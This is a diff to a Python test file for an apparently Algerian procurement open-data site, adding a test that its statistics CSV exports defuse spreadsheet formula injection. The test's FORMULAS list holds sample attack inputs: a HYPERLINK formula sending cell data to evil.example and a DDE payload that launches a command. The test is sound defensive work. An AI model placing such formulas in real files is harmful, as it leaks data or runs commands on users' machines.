@@ -33,7 +33,9 @@ Firms: M1 micro (ANADE, wilaya 31), M2 micro (CNAC, wilaya 16), N1 not micro (wi
 
 from __future__ import annotations
 
+import csv
 import gzip
+import io
 import xml.etree.ElementTree as ET
 from datetime import UTC, datetime, timedelta
 from decimal import Decimal
@@ -42,6 +44,7 @@ import pytest
 
 from safkat.awards.models import LotAward
 from safkat.bids.models import Bid, OpenedBid, Opening
+from safkat.csvfiles import csv_bytes
 from safkat.evaluation.models import Assessment, LotEvaluation
 from safkat.opendata import redflags
 from safkat.opendata.charts.formatting import csv_percent
@@ -50,7 +53,7 @@ from safkat.opendata.charts.svg import BAR, GAP, LABEL_WIDTH, VALUE_WIDTH, WIDTH
 from safkat.opendata.stats.dashboard import Dashboard
 from safkat.opendata.stats.flag_counts import red_flag_counts
 from safkat.opendata.stats.scope import StatsFilters
-from safkat.opendata.stats_views import csv_bytes
+from safkat.opendata.stats_views import CHARTS, chart_csv
 from safkat.tenders.models import Amendment
 
 M = 1_000_000_00  # one million DZD, in centimes
@@ -425,7 +428,24 @@ def test_other_csv_files(world, client, db_session, clock):
 
 def test_csv_bytes_quotes_and_crlf():
     chart = Chart("x", "t", "d", [], [], ["name", "value"], [['Dar "El" Beida, Alger', 1]])
-    assert csv_bytes(chart) == '\ufeffname,value\r\n"Dar ""El"" Beida, Alger",1\r\n'.encode()
+    assert chart_csv(chart) == '\ufeffname,value\r\n"Dar ""El"" Beida, Alger",1\r\n'.encode()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
+
+
+def test_no_csv_cell_is_a_formula(client, make, clock):
+    """Issue 18, finding 4 (OWASP's CSV injection rule), over every CSV file of the statistics."""
+    for name in FORMULAS:
+        authority = make.authority(name_fr=name, name_ar=name)
+        make.tender(state="open", authority=authority, reserved=True)
+    cells = []
+    for chart in CHARTS:
+        text = client.get(f"/stats/{chart}.csv?lang=fr").data.decode("utf-8-sig")
+        cells += [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert {"'" + name for name in FORMULAS} <= set(cells), "the names are there, made inert"
+    assert csv_bytes(["n"], [[-1], ["\tx"]]) == "\ufeffn\r\n-1\r\n'\tx\r\n".encode(), "numbers stay numbers"
 
 
 # --- pages, SVG, languages, caching, weight ------------------------------------------------------------
